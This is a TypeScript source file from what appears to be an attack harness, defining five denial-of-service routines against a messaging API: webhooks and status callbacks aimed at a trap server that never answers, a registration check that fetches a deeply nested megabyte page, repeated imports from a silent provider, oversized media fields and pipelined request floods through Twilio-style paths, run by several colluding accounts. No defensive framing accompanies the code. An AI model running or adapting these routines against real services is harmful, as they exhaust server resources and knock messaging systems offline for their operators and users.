import { ATTACKER_NUMBER, type Attack, call, sendTexts } from "./attack.ts";
import { flood, pipelined, type Target, wire } from "./socket.ts";

const ENDPOINTS_PER_ACCOUNT = 5;

/** Calls by which the server itself has to ask somebody else, who does not answer or answers too much. */
export const OUTSIDE_ATTACKS: readonly Attack[] = [
  {
    name: "hanging webhooks",
    what: "texts of its own, each event of which goes to five endpoints that take it and never answer",
    meets: [201],
    run: async (target) => {
      const made = Array.from({ length: ENDPOINTS_PER_ACCOUNT }, (_, index) =>
        call(target, "POST", "/v1/webhooks", {
          url: `${target.trapUrl}/hang/${index}`,
          events: ["*"],
        }),
      );
      const endpoints = await Promise.all(made);
      await sendTexts(target);
      for (const { id } of endpoints) await call(target, "DELETE", `/v1/webhooks/${id}`);
    },
  },
  {
    name: "registration checks",
    what: "checks of a website of a megabyte of tags, each within the one before, by six accounts",
    meets: [200],
    run: (target) =>
      each(target, (key) => ({
        connections: 4,
        bytes: () =>
          wire({
            method: "POST",
            path: "/v1/registrations/prefill",
            key,
            body: JSON.stringify({ website: `${target.trapUrl}/site` }),
          }),
      })),
  },
  {
    name: "other door",
    what: "pages of a thousand texts, and texts with callbacks that never answer, through Twilio's paths",
    meets: [200, 201],
    run: (target) => {
      const account = `AC${"0".repeat(32)}`;
      const path = `/2010-04-01/Accounts/${account}/Messages.json`;
      const headers = (key: string) => ({
        authorization: `Basic ${Buffer.from(`${account}:${key}`).toString("base64")}`,
      });
      const form = new URLSearchParams({
        To: "+15005550000",
        From: ATTACKER_NUMBER,
        Body: "Hello",
        StatusCallback: `${target.trapUrl}/hang`,
      });
      return flood(target, {
        connections: 8,
        bytes: ({ key }) =>
          Buffer.concat([
            pipelined(8, { path: `${path}?PageSize=1000`, headers: headers(key) }),
            pipelined(8, {
              method: "POST",
              path,
              headers: headers(key),
              type: "application/x-www-form-urlencoded",
              body: form.toString(),
            }),
          ]),
      });
    },
  },
  {
    name: "importer",
    what: "imports of six accounts from a provider that never answers, begun again and again",
    meets: [202],
    run: (target) =>
      each(target, (key) => ({
        connections: 4,
        bytes: () =>
          wire({
            method: "POST",
            path: "/v1/imports",
            key,
            body: JSON.stringify({
              provider: "twilio",
              account_sid: `AC${"0".repeat(32)}`,
              secret: "0".repeat(32),
            }),
          }),
      })),
  },
  {
    name: "media",
    what: "texts whose reserved field for pictures is as full as a body may be",
    meets: [400],
    run: (target) => {
      const media = Array.from({ length: 1_500 }, (_, index) => `https://pictures.test/${index}`);
      const text = { to: "+15005550000", from: ATTACKER_NUMBER, body: "Hello", media };
      const body = JSON.stringify(text);
      return flood(target, {
        connections: 8,
        bytes: ({ key }) => pipelined(8, { method: "POST", path: "/v1/messages", key, body }),
      });
    },
  },
];

/** The same by every account that is in league. */
async function each(
  target: Target,
  how: (key: string) => Parameters<typeof flood>[1],
): Promise<void> {
  await Promise.all(target.keys.map((key) => flood(target, how(key))));
}
